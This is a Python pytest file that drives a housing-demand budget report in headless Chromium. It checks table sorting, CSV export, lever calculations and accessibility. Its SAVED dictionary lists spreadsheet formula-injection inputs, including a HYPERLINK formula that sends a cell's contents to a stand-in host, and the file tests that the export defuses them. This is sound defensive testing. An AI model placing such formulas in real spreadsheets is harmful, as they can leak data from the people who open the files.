"""What the page does by itself, in real Chromium: tables that are sorted and saved, levers that agree with Python."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from lever_case import answer, tried
from report_made import made

from demand.budget.levers import levers
from demand.report import ReportInput
from demand.report.html import report_page

TABLE = "Expected numbers by financial year"
WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
AGREES = 0.005
SAVED = {
    '=HYPERLINK("http://x/?"&A2,"x")': '\'=HYPERLINK("http://x/?"&A2,"x")',
    "=1+1": "'=1+1",
    "@SUM(1+1)": "'@SUM(1+1)",
    "-2+3": "'-2+3",
    "1,2": "1,2",
    "\u22121,234.5": "-1234.5",
    "-\u00a31,200": "-1200",
    "+2.5%": "+2.5%",
    "-3 to 5": "-3 to 5",
}
"""What a cell says, and what a spreadsheet is given."""
MOVED = {"fewer": 0.83, "to hostel": 0.37, "bed and breakfast": 575.0}
"""Values that the run has not worked out."""


def _inputs() -> ReportInput:
    """Give a made-up run with levers."""
    run = tried(empty="South")
    ledger = [
        {"name": f"{c.cost.name}: amount", "used_in": "costs", "placeholder": False, **c.cost.amount.model_dump(mode="json")}
        for c in run.cost.parts
    ]
    found = levers(run.case, history=run.history, cost=run.cost, spec=run.spec)
    base = made()
    asked = {**base.questions, "both": run.case.scenarios[0].question}
    return replace(base, levers=found, assumptions=pd.DataFrame(ledger), questions=asked)


@pytest.fixture(scope="module")
def page(tool: Callable[[str], str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Give the report of a made-up run, open in a Chromium, with everything unfolded."""
    from playwright.sync_api import sync_playwright

    file = tmp_path_factory.mktemp("page") / "report.html"
    file.write_text(report_page(_inputs()), encoding="utf-8")
    with sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=tool("chromium"), args=["--disable-gpu", "--disable-background-networking"])
        shown = chromium.new_page(viewport={"width": 1280, "height": 1000})
        shown.goto(file.as_uri())
        shown.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        yield shown
        chromium.close()


def _column(table: Any, at: int) -> list[str]:
    return list(table.evaluate("(t, at) => [...t.tBodies[0].rows].map(r => r.cells[at].textContent.trim())", at))


def test_a_heading_sorts_its_table_up_down_and_back_by_keyboard(page: Any) -> None:
    table = page.locator("table", has=page.locator("caption", has_text=TABLE)).first
    head = table.locator("thead th.n").first
    at = head.evaluate("h => h.cellIndex")
    before, amounts = _column(table, at), []
    for said in ("ascending", "descending", None):
        head.get_by_role("button").press("Enter")
        assert head.get_attribute("aria-sort") == said
        amounts.append([float(v.replace(",", "")) for v in _column(table, at)])
    assert len(set(before)) > 2
    assert amounts[0] == sorted(amounts[0])
    assert amounts[1] == sorted(amounts[0], reverse=True)
    assert _column(table, at) == before


def test_every_table_can_be_saved_with_its_numbers_as_a_spreadsheet_reads_them(page: Any, tmp_path: Path) -> None:
    tables, buttons = page.locator(".scroll > table").count(), page.get_by_role("button", name="Save as CSV")
    assert buttons.count() == tables > 5
    place = page.locator(".scroll", has=page.locator("caption", has_text=TABLE)).first
    with page.expect_download() as saved:
        place.locator("xpath=following-sibling::button[1]").press("Enter")
    assert saved.value.suggested_filename == "expected_numbers_by_financial_year.csv"
    saved.value.save_as(tmp_path / "table.csv")
    text = (tmp_path / "table.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    shown = place.locator("tr").evaluate_all("rows => rows.map(r => [...r.cells].map(c => c.textContent.trim()))")
    assert [len(r) for r in rows] == [len(r) for r in shown]
    at = rows[0].index("Expected")
    assert [float(r[at]) for r in rows[1:]] == [float(r[at].replace(",", "")) for r in shown[1:]]


def test_nothing_in_a_saved_table_runs_as_a_formula(page: Any, tmp_path: Path) -> None:
    cell = page.locator(".scroll > table tbody th").first
    before = cell.text_content()
    for text, saved_as in SAVED.items():
        cell.evaluate("(c, text) => { c.textContent = text; }", text)
        with page.expect_download() as saved:
            page.locator("button.save").first.click()
        saved.value.save_as(tmp_path / "table.csv")
        with (tmp_path / "table.csv").open(encoding="utf-8-sig", newline="") as file:
            assert saved_as in next(row for at, row in enumerate(csv.reader(file)) if at == 1)
    cell.evaluate("(c, text) => { c.textContent = text; }", before)


def _told(page: Any) -> tuple[float, float]:
    """Read people and pounds off the panel, as moved."""
    rows = page.locator("#try tbody tr").evaluate_all("rows => rows.map(r => [...r.cells].map(c => c.textContent))")
    figures = [float(r[3].replace(",", "").replace("\u00a3", "")) for r in rows]
    assert [r[0] for r in rows] == ["Households (temporary accommodation) at one time", "Nightly", "Hostels", "All lines"]
    assert figures[3] == pytest.approx(figures[1] + figures[2], abs=1.01)
    return figures[0], figures[3]


def _choose(page: Any, label: str, option: str) -> None:
    page.get_by_role("combobox", name=label, exact=True).select_option(label=option)


def _move(page: Any, moved: dict[str, float]) -> None:
    for name, value in moved.items():
        page.locator("#try label.lever", has_text=name.capitalize()).locator("input").evaluate(
            "(e, v) => { e.step = 'any'; e.value = v; e.dispatchEvent(new Event('input')); }", value
        )


@pytest.mark.parametrize("moved", [{}, {"fewer": 0.83}, {"bed and breakfast": 575.0}, MOVED], ids=["none", "lever", "price", "all"])
def test_levers_and_prices_say_what_python_says(page: Any, moved: dict[str, float]) -> None:
    page.get_by_role("button", name="Back to the run").click()
    _choose(page, "If", "Both")
    _move(page, moved)
    run = tried(moved, empty="South")
    for area in (None, "North"):
        _choose(page, "For", area or "Everything")
        for year, wanted in answer(run, "both", area).items():
            _choose(page, "In the year", year)
            assert _told(page) == pytest.approx(wanted, rel=AGREES)
    said = page.locator("#try [role=status]").text_content()
    assert ("than the run says" in said) if moved else (said == "What do both do?")


@pytest.mark.parametrize("ends", [(0.0, 0.0), (4.0, 20.5)], ids=["both off", "between and end"])
@pytest.mark.parametrize("scenario", ["nights", "opened"])
def test_several_numbers_of_people_add_up_as_in_python(page: Any, scenario: str, ends: tuple[float, float]) -> None:
    moved = dict(zip((f"{scenario} a", f"{scenario} b"), ends, strict=True))
    page.get_by_role("button", name="Back to the run").click()
    _choose(page, "If", scenario.capitalize())
    _move(page, moved)
    run = tried(moved, empty="South")
    area = "South" if scenario == "opened" else "North"
    _choose(page, "For", area)
    _choose(page, "In the year", "2027-28")  # the first year still has who was counted last in the South
    assert _told(page) == pytest.approx(answer(run, scenario, area)["2027-28"], rel=AGREES, abs=0.05)
    assert "about right" in page.locator("#try [role=status]").text_content()


def test_a_lever_reaches_the_end_that_it_says(page: Any) -> None:
    page.get_by_role("button", name="Back to the run").click()
    _choose(page, "If", "Nights")
    lever = page.get_by_role("slider", name="Nights a")
    lever.press("End")
    assert lever.get_attribute("aria-valuetext") == "held at 20.5; may be 0 to 20.5 (households)"


def test_a_lever_is_moved_by_keyboard_and_says_where_it_stands(page: Any) -> None:
    page.get_by_role("button", name="Back to the run").press("Enter")
    _choose(page, "If", "Both")
    lever = page.get_by_role("slider", name="Fewer")
    assert lever.get_attribute("aria-valuetext").startswith("0.9, as in the run; may be 0.8 to 0.95")
    lever.press("ArrowLeft")
    assert lever.get_attribute("aria-valuetext").startswith("held at 0.895")
    lever.press("Home")
    assert "held at 0.8;" in lever.get_attribute("aria-valuetext")


def test_axe_finds_nothing_in_the_panel_once_it_is_moved(page: Any) -> None:
    from axe_playwright_python.sync_playwright import Axe

    _choose(page, "If", "Both")
    page.get_by_role("slider", name="Fewer").press("ArrowLeft")
    for width in (1280, 320):
        page.set_viewport_size({"width": width, "height": 1000})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        found = Axe().run(page, context="#try", options={"runOnly": {"type": "tag", "values": WCAG}}).response
        assert len(found["passes"]) > 10
        assert [(v["id"], node["html"][:120]) for v in found["violations"] for node in v["nodes"]] == []


def test_without_a_script_the_page_says_what_the_run_says_and_on_paper_nothing_can_be_moved(page: Any) -> None:
    still = page.context.browser.new_context(java_script_enabled=False).new_page()
    still.goto(page.url)
    assert still.locator("#try noscript").is_visible()
    assert still.locator("#try tbody tr").count() == 4
    assert still.locator("#try select, #try input, button").count() == 0
    still.context.close()
    page.emulate_media(media="print")
    assert not page.locator("#try").is_visible()
    assert not page.locator("button.save").first.is_visible()
    page.emulate_media(media="screen")
